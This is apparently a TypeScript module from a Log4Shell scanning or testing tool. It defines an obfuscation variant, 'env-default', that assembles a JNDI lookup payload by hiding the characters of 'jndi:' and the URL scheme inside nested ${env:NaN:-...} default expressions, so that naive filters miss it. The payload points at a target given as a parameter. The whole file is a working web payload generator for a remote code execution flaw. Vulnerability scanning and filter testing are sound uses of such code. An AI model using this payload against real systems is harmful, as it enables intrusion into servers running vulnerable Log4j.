import { afterScheme, disguise } from '../form.ts'

export const envDefault = disguise(
  {
    id: 'env-default',
    summary: 'unset environment variables with defaults',
    firesOn: ['B', 'C'],
    seenIn: ['scan4log4shell'],
  },
  (target) => `\${\${env:NaN:-j}ndi\${env:NaN:-:}\${env:NaN:-${target.scheme}}\${env:NaN:-:}${afterScheme(target)}}`,
)
